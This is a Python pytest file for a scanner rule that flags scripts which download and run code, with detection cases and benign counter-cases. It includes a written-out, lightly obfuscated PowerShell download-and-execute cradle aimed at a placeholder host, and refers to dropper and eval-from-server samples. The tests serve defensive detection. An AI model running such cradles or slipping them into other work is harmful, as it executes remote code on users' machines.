"""What traced_script_downloads_and_runs must find in running code, and (more) what it must leave alone."""

from __future__ import annotations

import pytest

from tests import files_sandbox as sandbox
from tests import files_scripts as scripts
from tests.workers.attachments.scan import File
from tests.workers.sandbox.run import HARMLESS, found

BAD: dict[str, File] = {
    "JavaScript": ("a.js", sandbox.DROPPER_JS),
    "VBScript": ("a.vbs", sandbox.DROPPER_VBS),
    "PowerShell": ("a.ps1", b"IEX (New-Object Net.WebClient).('Down'+'loadString').Invoke('http://a.example/a')"),
    "a command in base64": ("a.bat", scripts.encoded_command()),
    "a command out of a script": (
        "b.vbs",
        f'CreateObject("WScript.Shell").Run "{sandbox.powershell(scripts.CRADLE)}"'.encode(),
    ),
    "from its server, as code": ("c.js", (sandbox.FETCHES + "eval(x.responseText)").encode()),
}
GOOD: dict[str, File] = {
    **HARMLESS,
    "asks a service": ("b.ps1", b"$r = Invoke-RestMethod https://api.example.com/status\r\nWrite-Host $r.state\r\n"),
    "only fetches": (
        "c.vbs",
        b'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "http://a.example/prices.csv"\nx.Send\n',
    ),
}


@pytest.mark.parametrize("file", BAD.values(), ids=BAD)
def test_is_found(file: File) -> None:
    (finding,) = found("traced_script_downloads_and_runs", file)
    assert finding.detail
    assert finding.where.decoded


@pytest.mark.parametrize("file", GOOD.values(), ids=GOOD)
def test_is_left_alone(file: File) -> None:
    assert found("traced_script_downloads_and_runs", file) == []
